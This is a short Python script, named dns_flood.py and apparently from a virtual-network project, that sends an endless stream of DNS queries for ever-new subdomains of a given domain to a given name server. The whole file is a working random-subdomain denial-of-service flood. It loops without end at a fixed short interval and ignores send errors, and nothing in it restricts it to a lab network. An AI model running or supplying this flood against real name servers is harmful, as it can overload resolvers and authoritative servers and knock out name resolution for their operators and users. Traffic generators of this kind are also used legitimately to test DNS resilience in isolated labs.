# SPDX-FileCopyrightText: virtnet.linux contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Asks a name server for ever new names of a domain, without end: dns_flood.py ADDRESS DOMAIN"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from itertools import count

address, domain = sys.argv[1:]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect((address, 53))
tail = b"".join(bytes([len(label)]) + label.encode() for label in domain.split(".")) + b"\0"
for number in count(1):
    label = b"q%d" % number
    header = struct.pack("!6H", number & 0xFFFF, 0x100, 1, 0, 0, 0)
    with contextlib.suppress(OSError):
        sock.send(header + bytes([len(label)]) + label + tail + struct.pack("!HH", 1, 1))
    time.sleep(0.002)
